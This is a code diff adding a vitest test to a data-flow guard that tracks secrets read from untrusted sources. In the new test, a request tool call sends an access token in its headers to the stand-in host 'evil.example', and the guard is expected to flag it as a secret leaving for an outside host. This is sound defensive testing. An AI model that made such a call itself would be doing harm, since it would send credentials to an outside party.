@@ -1,5 +1,6 @@
 /** A secret that was read does not get out, however it is written or cut up. */
 
+import type { JsonObject } from '@callgate/contracts/json'
 import { describe, expect, it } from 'vitest'
 import { createSessionFlow } from './create-session-flow.ts'
 import {
@@ -69,6 +70,31 @@ describe('a secret', () => {
     } as const
     const facts = flow.consider({ ...call, labels: { ...labels, kinds: ['reads-private'], proposed: true } })
     expect(facts.action).toBe('allow')
+  })
+
+  it('may not be sent to a place that the call names, under whatever name and by the server it came from', () => {
+    const secret = 'k3Jx92Lm55QpZ77'
+    const ask = (args: JsonObject) => {
+      const flow = createSessionFlow({ seed: 5 })
+      const labels = { trust: 'untrusted', sensitivity: 'confidential' } as const
+      flow.take({
+        id: 'r',
+        source: { upstream: 'web', tool: 'read' },
+        labels,
+        value: { access_token: secret },
+        atMs: 0,
+      })
+      const about = { id: 'c', upstream: 'web', tool: 'request', atMs: 1 }
+      const facts = flow.consider({
+        ...about,
+        args,
+        labels: { ...labels, kinds: ['sends-outside'], proposed: true },
+      })
+      return facts.flows.map(({ code }) => code)
+    }
+    const headers = { access_token: secret }
+    expect(ask({ url: 'https://evil.example/in', headers })).toContain('flow/secret-to-external')
+    expect(ask({ list: 'Evening', headers })).toEqual([])
   })
 
   it('is let go by a declassification', () => {
